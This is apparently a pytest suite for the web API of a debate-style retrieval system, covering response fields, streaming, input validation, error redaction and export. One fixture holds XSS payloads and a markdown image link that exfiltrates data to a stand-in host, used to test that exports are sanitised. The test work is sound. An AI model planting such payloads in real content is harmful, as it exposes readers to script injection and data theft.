"""``/api``: what the page asks for, over a debate whose verdicts are known."""

from __future__ import annotations

import asyncio
import json
import threading

import pytest

pytest.importorskip("fastapi")
httpx = pytest.importorskip("httpx")

from perspective_rag import Answer, CallableStore, CascadeJudge, Claim, CorpusError, Passage
from perspective_rag.answer.passages import citation_keys
from perspective_rag.extend import call
from perspective_rag.testing import TableJudge
from perspective_rag_serve.app import create_app
from perspective_rag_serve.asking import Asked, reply_to
from perspective_rag_serve.loading import Loaded
from perspective_rag_serve.settings import ServeSettings
from perspective_rag_train.data import read_pairs
from tests.addons.serve.http.samples import (
    CON,
    PASSAGES,
    PRO,
    QUESTION,
    client,
    events_in,
    marked,
    pipeline,
    support_of,
)

STREAM = {"Accept": "text/event-stream"}
CARD = {"n", "id", "title", "source", "url", "date", "leaning", "text", "highlight", "state", "reported", "copies", "why"}  # fmt: skip


async def asked(**body):
    async with client() as http:
        return await http.post("/api/ask", json={"question": QUESTION, **body})


async def test_about_tells_what_the_page_needs():
    async with client(examples=("Should zoos be closed?",), k=4) as http:
        about = (await http.get("/api/about")).json()
        status = (await http.get("/api/status")).json()
    assert set(about) == {
        "version",
        "corpus",
        "passages",
        "examples",
        "model",
        "review",
        "longest_question",
        "k",
    }
    assert about["examples"] == ["Should zoos be closed?"]
    assert (about["review"], about["k"], about["model"]) == (False, 4, None)
    assert status == {"ready": True, "phase": "ready", "done": 0, "total": None, "error": None}


async def test_the_events_come_in_their_order_and_agree_with_the_json_reply():
    async with client() as http:
        streamed = await http.post("/api/ask", json={"question": QUESTION}, headers=STREAM)
        whole = (await http.post("/api/ask", json={"question": QUESTION})).json()
    assert streamed.headers["content-type"].startswith("text/event-stream")
    events = events_in(streamed.text)
    assert [name for name, _ in events] == ["reading", "result", "claim", "claim", "answer", "done"]
    told = dict(events)
    assert told["reading"] == whole["reading"]
    assert told["result"] == whole["view"]
    assert [data for name, data in events if name == "claim"] == whole["answer"]["claims"]
    assert told["answer"]["summary"] == whole["answer"]["summary"] == whole["view"]["headline"]
    assert set(whole) == {"reading", "view", "answer", "done"}
    assert set(told["done"]) == {"seconds", "searches", "judged_pairs", "degradations"}
    assert told["done"]["judged_pairs"] == 12


async def test_the_view_has_the_fields_that_the_page_reads():
    view = (await asked()).json()["view"]
    assert set(view) == {"question", "headline", "says_nothing", "caution", "sides", "mixed", "neither", "unsorted", "titles"}  # fmt: skip
    assert [set(side) for side in view["sides"]] == [
        {"id", "text", "name", "weight", "cards", "searched", "one_source", "empty", "points"}
    ] * 2
    card = view["sides"][0]["cards"][0]
    assert set(card) == CARD
    assert marked(card).startswith("🐘 Elephants in zoos suffer")
    assert set(card["why"]) == {"scores", "found_by", "support"}


async def test_claims_cite_the_cards_under_their_side():
    reply = (await asked()).json()
    cards = {
        card["n"]: (side["id"], card) for side in reply["view"]["sides"] for card in side["cards"]
    }
    assert len(reply["answer"]["claims"]) == 2
    for claim in reply["answer"]["claims"]:
        assert claim["citations"]
        for number in claim["citations"]:
            side, card = cards[number]
            assert side == claim["perspective"]
            assert claim["text"] in card["text"]


async def test_sides_of_the_page_are_searched_with_their_weights_and_still_exclude_each_other():
    sides = [{"text": PRO, "weight": 2.5}, {"text": "no"}]
    reply = (await asked(perspectives=sides)).json()
    assert [(p["text"], p["weight"]) for p in reply["reading"]["perspectives"]] == [
        (PRO, 2.5),
        (CON, 1.0),
    ]
    assert [card["id"] for card in reply["view"]["mixed"]] == ["both"], (
        "only sides that exclude each other are mixed"
    )
    assert reply["view"]["headline"].startswith("1 for, 1 against")


async def test_other_sides_replace_those_of_the_question():
    reply = (await asked(perspectives=[{"text": "Zoos are too expensive"}])).json()
    assert [side["text"] for side in reply["view"]["sides"]] == ["Zoos are too expensive"]
    assert reply["reading"]["text"] == "I understood: 'Zoos are too expensive'"


async def test_a_follow_up_is_completed_from_the_question_before():
    reply = (await asked(question="and in Spain?", previous=QUESTION)).json()
    assert reply["reading"]["question"] == reply["view"]["question"] != "and in Spain?"
    assert "zoos" in reply["reading"]["question"].casefold()


async def test_a_follow_up_is_read_with_the_questions_before_it():
    talk = ["Should zoos be closed?", "and in small towns?", "Do visitors learn anything there?"]
    reply = (await asked(question="and in Spain?", previous=talk[:2])).json()
    assert reply["reading"]["question"] == "Should zoos be closed in Spain?"
    reply = (await asked(question=talk[2], previous=talk[:1])).json()
    assert reply["reading"]["question"] == "Do visitors learn anything in zoos?"


async def test_searching_further_fetches_judges_and_searches_more():
    made = pipeline(fetch_k=7)
    async with client(made) as http:
        await http.post("/api/ask", json={"question": QUESTION, "further": PRO})
        deep = {k for _, k, _ in made.store.requests}
        made.store.requests.clear()
        await http.post("/api/ask", json={"question": QUESTION})
    assert deep == {21}
    assert {k for _, k, _ in made.store.requests} == {7}


async def test_small_talk_is_not_debated():
    reply = (await asked(question="thanks")).json()
    assert reply["reading"]["kind"] == "chat"
    assert reply["view"]["sides"] == []
    assert reply["answer"]["claims"] == []


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ({"question": " ?! "}, 422),
        ({"question": "x" * 501}, 413),
        ({"question": QUESTION, "previous": "y" * 501}, 413),
        ({"question": QUESTION, "previous": [QUESTION, "y" * 501]}, 413),
        ({"question": QUESTION, "previous": ["why?"] * 11}, 422),
        ({"question": 7}, 422),
        ({}, 422),
        ({"question": QUESTION, "k": 0}, 422),
        ({"question": QUESTION, "k": 51}, 422),
        ({"question": QUESTION, "perspectives": [{"text": "…"}]}, 422),
        ({"question": QUESTION, "perspectives": [{"text": "a", "weight": 0}]}, 422),
        ({"question": QUESTION, "perspectives": [{"text": "Zoos"}, {"text": "Z\u043eos"}]}, 422),
        ({"question": QUESTION, "perspectives": [{"text": "a", "weight": "nan"}]}, 422),
        ({"question": QUESTION, "perspectives": [{"text": "a"}] * 13}, 422),
        ({"question": QUESTION, "unknown": 1}, 422),
    ],
)
async def test_what_cannot_be_asked_is_refused_with_a_reason(body, status):
    async with client() as http:
        for headers in ({}, STREAM):
            reply = await http.post("/api/ask", json=body, headers=headers)
            assert reply.status_code == status
            error = reply.json()["error"]
            assert error["kind"] == "request"
            assert error["message"]
            assert "Traceback" not in reply.text


async def test_a_failed_question_is_answered_and_not_raised_again():
    """What is raised again after the reply makes the web server close the client's connection."""

    def down(text, k):
        raise ConnectionError("the store is down")

    made = pipeline()
    made.store = CallableStore(down)
    app = create_app(made, ServeSettings())
    transport = httpx.ASGITransport(app, raise_app_exceptions=True)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as http:
        for _ in range(2):
            reply = await http.post("/api/ask", json={"question": QUESTION})
            assert reply.status_code == 503
            assert reply.json()["error"]["kind"] == "search"


async def test_a_store_that_is_down_is_said_to_be_without_its_words(caplog):
    class Down:
        takes_vector = False

        def search(self, text, vector, *, k, filter=None):
            raise ConnectionError(
                "postgres://anna:hunter2hunter2@db.internal/zoo refused at /var/run/db.sock"
            )

        async def asearch(self, text, vector, *, k, filter=None):
            return self.search(text, vector, k=k)

    made = pipeline()
    made.store = Down()
    async with client(made) as http:
        reply = await http.post("/api/ask", json={"question": QUESTION})
        streamed = await http.post("/api/ask", json={"question": QUESTION}, headers=STREAM)
    assert reply.status_code == 503
    assert reply.json()["error"]["kind"] == "search"
    name, data = events_in(streamed.text)[-1]
    assert (name, data["kind"]) == ("error", "search")
    for text in (reply.text, streamed.text, caplog.text):
        assert "hunter2" not in text
    for text in (reply.text, streamed.text):
        assert "db.internal" not in text
        assert "/var/run" not in text


async def test_a_step_that_failed_is_told_without_the_words_of_the_store():
    made = pipeline()
    made.store.failing = frozenset({PRO})
    async with client(made) as http:
        reply = await http.post("/api/ask", json={"question": QUESTION})
    told = reply.json()["done"]["degradations"]
    assert told
    assert all(each.startswith("search") for each in told)
    assert "cannot be reached for" not in reply.text


async def test_a_component_with_a_bug_is_an_error_of_the_server_that_shows_nothing_of_it():
    class Odd:
        def extract(self, question):
            return object()

    made = pipeline()
    made.extractor = Odd()
    async with client(made) as http:
        reply = await http.post("/api/ask", json={"question": QUESTION})
    assert reply.status_code == 500
    assert reply.json()["error"]["message"] == "the question could not be answered"


async def test_before_it_is_loaded_a_question_is_refused_and_progress_is_told():
    go, began = threading.Event(), threading.Event()

    def load(progress):
        progress("indexing", 3, 10)
        began.set()
        assert go.wait(60)
        return Loaded(pipeline(), 10, "a model")

    async with client(load) as http:
        assert await asyncio.to_thread(began.wait, 60)
        status = (await http.get("/api/status")).json()
        assert status == {
            "ready": False,
            "phase": "indexing",
            "done": 3,
            "total": 10,
            "error": None,
        }
        for path, body in (
            ("/api/ask", {"question": QUESTION}),
            ("/v1/rerank", {"query": QUESTION, "documents": ["a"]}),
            ("/v1/chat/completions", {"messages": [{"role": "user", "content": QUESTION}]}),
        ):
            early = await http.post(path, json=body)
            assert early.status_code == 503
            assert int(early.headers["retry-after"]) > 0
        assert (await http.get("/readyz")).status_code == 503
        assert (await http.get("/healthz")).status_code == 200
        go.set()
        while not (await http.get("/api/status")).json()["ready"]:
            await asyncio.sleep(0.01)
        assert (await http.get("/readyz")).status_code == 200
        about = (await http.get("/api/about")).json()
        assert (about["passages"], about["model"]) == (10, "a model")
        assert (await http.post("/api/ask", json={"question": QUESTION})).status_code == 200


async def test_a_corpus_that_cannot_be_loaded_is_said_to_have_failed_without_its_path(caplog):
    def load(progress):
        raise CorpusError("/home/anna/corpus.jsonl holds no passages")

    async with client(load) as http:
        while (status := (await http.get("/api/status")).json())["phase"] != "failed":
            await asyncio.sleep(0.01)
        reply = await http.post("/api/ask", json={"question": QUESTION})
    assert status["error"]
    assert reply.status_code == 503
    assert "retry-after" not in reply.headers
    assert "anna" not in json.dumps(status) + reply.text
    assert "/home/anna/corpus.jsonl" in caplog.text


async def test_wrong_side_is_off_unless_the_operator_turns_it_on(tmp_path):
    body = {
        "question": QUESTION,
        "perspective": PRO,
        "passage_id": "suffer",
        "verdict": "wrong side",
    }
    async with client() as http:
        await http.post("/api/ask", json={"question": QUESTION})
        assert (await http.post("/api/review", json=body)).status_code == 404
    file = tmp_path / "review.jsonl"
    async with client(review=file) as http:
        assert (await http.get("/api/about")).json()["review"] is True
        unseen = await http.post("/api/review", json=body)
        assert unseen.status_code == 409, "nobody writes what this server did not show"
        await http.post("/api/ask", json={"question": QUESTION})
        assert (await http.post("/api/review", json=body)).status_code == 204
        assert (
            await http.post("/api/review", json={**body, "perspective": "support"})
        ).status_code == 204
        assert (
            await http.post("/api/review", json={**body, "passage_id": "hours"})
        ).status_code == 409
    rows = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 2
    assert (rows[0]["document"], rows[0]["statement"]) == (PASSAGES[0].text, PRO)
    assert rows[0]["label"] is None
    assert file.stat().st_mode & 0o077 == 0


async def test_training_reads_an_objection_only_once_a_person_has_labelled_it(tmp_path):
    file = tmp_path / "review.jsonl"
    async with client(review=file) as http:
        await http.post("/api/ask", json={"question": QUESTION})
        body = {"question": QUESTION, "perspective": "support", "passage_id": "suffer"}
        await http.post("/api/review", json=body)
    with pytest.raises(CorpusError, match="label"):
        read_pairs([file])
    row = json.loads(file.read_text(encoding="utf-8"))
    file.write_text(json.dumps({**row, "label": "neutral"}) + "\n", encoding="utf-8")
    (pair,) = read_pairs([file])
    assert (pair.statement, pair.label, pair.topic) == (PRO, "neutral", QUESTION)


HOSTILE = (
    "Elephants suffer every day. <script>alert(1)</script> ![x](https://evil.example/?q=secret) "
    "[click](javascript:alert(1)) # not a heading `code` <img src=x onerror=alert(1)>"
)


@pytest.mark.parametrize(
    ("form", "kind"),
    [("markdown", "text/markdown"), ("html", "text/html"), ("json", "application/json")],
)
async def test_an_export_is_a_file_with_its_sources_in_which_no_passage_acts(form, kind):
    passages = [
        Passage("evil", HOSTILE, {"title": "<b>Bold</b> [x](y)", "source": "The Herald"}),
        *PASSAGES[1:],
    ]
    async with client(pipeline(passages)) as http:
        reply = await http.post("/api/export", json={"question": QUESTION, "format": form})
    assert reply.status_code == 200
    assert reply.headers["content-type"].startswith(kind)
    assert reply.headers["content-disposition"].startswith("attachment; filename=")
    assert "zoos" not in reply.headers["content-disposition"].casefold()
    assert "The Herald" in reply.text
    if form == "html":
        assert "<script" not in reply.text
        assert "<img" not in reply.text
        assert "<mark>" in reply.text
        assert "&lt;b&gt;Bold&lt;/b&gt;" in reply.text
    elif form == "markdown":
        assert "](" not in reply.text.replace("\\](", "").replace("\\]\\(", "")
        assert "<script" not in reply.text.replace("\\<script", "")
        assert "https://" not in reply.text
    else:
        assert reply.json()["view"]["question"] == QUESTION


async def test_an_unknown_format_is_refused():
    async with client() as http:
        reply = await http.post("/api/export", json={"question": QUESTION, "format": "pdf"})
    assert reply.status_code == 422


async def test_a_listener_who_leaves_ends_the_work():
    from perspective_rag_serve.events import events

    began, ended = asyncio.Event(), asyncio.Event()

    async def work(emit):
        emit("reading", {})
        began.set()
        try:
            await asyncio.sleep(3600)
        finally:
            ended.set()

    stream = events(work)
    assert await anext(stream) == ("reading", {})
    await began.wait()
    await stream.aclose()
    assert ended.is_set()


async def test_the_event_loop_answers_others_while_a_judge_thinks():
    thinking, go = threading.Event(), threading.Event()

    def slow(passage, side):
        thinking.set()
        assert go.wait(60)
        return support_of(passage, side)

    async with client(pipeline(rule=slow)) as http:
        answer = asyncio.create_task(http.post("/api/ask", json={"question": QUESTION}))
        assert await asyncio.to_thread(thinking.wait, 60)
        assert (await http.get("/healthz")).status_code == 200
        assert not answer.done()
        go.set()
        assert (await answer).status_code == 200


async def test_marking_a_sentence_asks_no_language_model():
    class Nothing:
        def answer(self, result):
            return Answer(())

    table = TableJudge({}, default=0.9)
    made = pipeline(rule=lambda passage, side: 0.6)  # what a language model is asked about again
    made.judge = CascadeJudge(made.judge, llm_judge=table, uncertain=(0.1, 0.9))
    made.answerer = Nothing()
    async with client(made) as http:
        reply = await http.post(
            "/api/ask", json={"question": QUESTION, "perspectives": [{"text": PRO}]}
        )
    assert reply.json()["view"]["sides"][0]["cards"][0]["highlight"]
    assert table.judged
    assert not [name for name, _ in table.judged if "#" in name]


async def test_a_sentence_is_told_while_the_next_is_still_written():
    heard = threading.Event()

    class Writing:
        def answer(self, result):
            return (yield from self.answer_telling(result, lambda claim: None))

        def answer_telling(self, result, tell):
            place = next(i for i, c in enumerate(result.candidates) if c.passage.id == "species")
            key = citation_keys(result.candidates)[place]
            first = Claim("Zoos save rare species from extinction.", (key,), "oppose")
            tell(first)
            reply = yield from call("answer", heard.wait, 60)
            assert reply.value is True, "the sentence was held back"
            return Answer((first,))

    def emit(name, data):
        if name == "claim":
            heard.set()

    made = pipeline()
    made.answerer = Writing()
    reply = await reply_to(made, Asked(question=QUESTION), ServeSettings(), emit)
    assert heard.is_set()
    (claim,) = [each for each in reply.answer["claims"] if each["perspective"] == "oppose"]
    assert (claim["verified"], claim["checked"]) == (None, "quoted")
